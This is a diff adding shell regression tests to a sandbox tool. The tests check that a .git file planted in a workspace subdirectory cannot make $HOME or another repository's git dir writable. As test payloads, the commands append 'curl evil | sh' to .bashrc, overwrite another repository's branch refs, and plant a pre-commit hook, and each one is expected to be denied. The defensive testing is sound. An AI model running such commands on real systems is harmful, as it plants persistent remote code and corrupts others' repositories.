@@ -90,3 +90,73 @@ t_cwd_in_visible_tree_kept() { # neighbour
 	expect_rc 0 "pwd"
 	expect_true test "$OUT" = /usr/share
 }
+
+# --- a .git file naming another directory ------------------------------------
+# Any run can write sub/.git in its workspace; a later run whose workspace is
+# sub (run from that directory: the workspace defaults to the cwd) used to
+# get whatever that file names bound writable as "the git dir".
+
+t_planted_gitfile_in_subdir_grants_nothing() {
+	git_repo
+	mkdir -p "$WS/sub"
+	git_repo "$FAKE_HOME/victim"
+	local victim_head
+	victim_head=$(git -C "$FAKE_HOME/victim" rev-parse HEAD)
+	sbp -- sh -c "echo 'gitdir: $FAKE_HOME' > sub/.git && echo 'gitdir: $FAKE_HOME/victim/.git' > sub2.git && echo planted"
+	expect_out "planted" "plant a .git file in a subdirectory (an ordinary file there)"
+	rf_setup_bin
+	HOME="$FAKE_HOME" sb_raw run --workspace "$WS/sub" --read-only "$RF_BIN" -- sh -c \
+		"echo 'curl evil | sh' >> '$FAKE_HOME/.bashrc'; echo x > '$FAKE_HOME/planted'"
+	expect_denied "write \$HOME through a planted .git file"
+	expect_err "is not made visible or writable" "the git dir left out is said"
+	expect_true test "$(cat "$FAKE_HOME/.bashrc")" = "export OK=1"
+	expect_true test ! -e "$FAKE_HOME/planted"
+	# the same naming another repository's git dir
+	mv "$WS/sub2.git" "$WS/sub/.git"
+	HOME="$FAKE_HOME" sb_raw run --workspace "$WS/sub" --read-only "$RF_BIN" -- sh -c \
+		"echo 0000000000000000000000000000000000000000 > '$FAKE_HOME/victim/.git/refs/heads/master'; git update-ref HEAD HEAD~0 && echo wrote"
+	expect_true test "$(git -C "$FAKE_HOME/victim" rev-parse HEAD)" = "$victim_head"
+	expect_true test ! -e "$FAKE_HOME/victim/.git/hooks/pre-commit"
+}
+
+t_planted_gitfile_naming_another_worktrees_admin() {
+	# a .git file naming a real worktree admin dir that is not its own
+	local src="$FAKE_HOME/src" other="$FAKE_HOME/other"
+	git_repo "$src"
+	git -C "$src" worktree add -q "$other" -b other
+	mkdir -p "$WS/sub"
+	echo "gitdir: $src/.git/worktrees/other" >"$WS/sub/.git"
+	rf_setup_bin
+	HOME="$FAKE_HOME" sb_raw run --workspace "$WS/sub" --read-only "$RF_BIN" -- sh -c \
+		"echo x > '$src/.git/refs/heads/evil'; echo x > '$src/.git/worktrees/other/HEAD'"
+	expect_denied "write another repository's git dir through someone else's admin dir"
+	expect_true test ! -e "$src/.git/refs/heads/evil"
+	expect_err "is not made visible or writable" "said"
+}
+
+t_submodule_checkout_as_workspace_works() { # neighbour: a git dir that says it is ours
+	local super="$FAKE_HOME/super"
+	git_repo "$super"
+	git_repo "$FAKE_HOME/lib"
+	git -C "$super" -c protocol.file.allow=always submodule add -q "$FAKE_HOME/lib" lib
+	git -C "$super" commit -qm "add lib"
+	rf_setup_bin
+	(cd "$super/lib" && HOME="$FAKE_HOME" "$RINGFENCE" run --read-only "$RF_BIN" -- sh -c \
+		"echo y > y && git add y && git commit -qm in-submodule && git log --oneline -1; echo h > '$super/.git/modules/lib/hooks/pre-commit'" \
+		</dev/null >"$RF_TEST_TMP/out" 2>"$RF_TEST_TMP/err")
+	OUT=$(cat "$RF_TEST_TMP/out") ERR=$(cat "$RF_TEST_TMP/err")
+	expect_out "in-submodule" "commit in a submodule checkout (its git dir lies in the superproject's .git/modules)"
+	expect_true test ! -e "$super/.git/modules/lib/hooks/pre-commit"
+	expect_not_out "not made visible" "no warning for it"
+}
+
+t_separate_gitdir_outside_needs_a_grant() { # what the honest --separate-git-dir user sees
+	local gd="$FAKE_HOME/gitdirs"
+	mkdir -p "$gd"
+	git init -q --separate-git-dir="$gd/repo.git" "$WS"
+	sbp -- git status
+	expect_err "grant it with --writable-root" "told how"
+	sbp --writable-root "$gd" -- sh -c 'echo z > z && git add z && git commit -qm z && echo SEP-OK'
+	expect_rc 0 "with the grant"
+	expect_out "SEP-OK" "commits"
+}
